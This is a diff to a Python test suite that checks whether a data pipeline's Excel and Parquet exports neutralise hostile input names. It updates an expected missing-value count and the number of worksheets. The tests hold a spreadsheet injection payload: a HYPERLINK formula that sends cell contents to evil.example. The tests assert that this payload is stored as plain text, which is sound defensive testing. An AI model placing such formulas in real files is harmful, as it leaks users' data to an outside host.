@@ -150,7 +150,7 @@ FRAME_CASES = {
     "plan with missing models": (
         "plan.parquet",
         lambda p: rewrite(p, lambda f: f.with_columns(model=pl.lit(None, pl.String))),
-        f"column model has 24 missing values; {NOT_OURS}",
+        f"column model has 20 missing values; {NOT_OURS}",
     ),
     "estimates missing": ("estimates.parquet", lambda p: p.unlink(), None),
 }
@@ -459,10 +459,10 @@ def test_parquet_keeps_the_names_as_they_are(hostile_run):
 def test_xlsx_holds_no_formulas(hostile_run):
     with zipfile.ZipFile(hostile_run / "estimates.xlsx") as z:
         sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
-    assert len(sheets) == 2
+    assert len(sheets) == 3  # options, plan, estimates
     for xml in sheets:
         assert "<f>" not in xml and "<f " not in xml  # every name is a text cell, never a formula
-    assert 'HYPERLINK("https://evil.example/?d="&amp;A1,"click")' in sheets[0]
+    assert 'HYPERLINK("https://evil.example/?d="&amp;A1,"click")' in sheets[2]
 
 
 def test_markdown_in_names_is_shown_as_text(hostile_run):
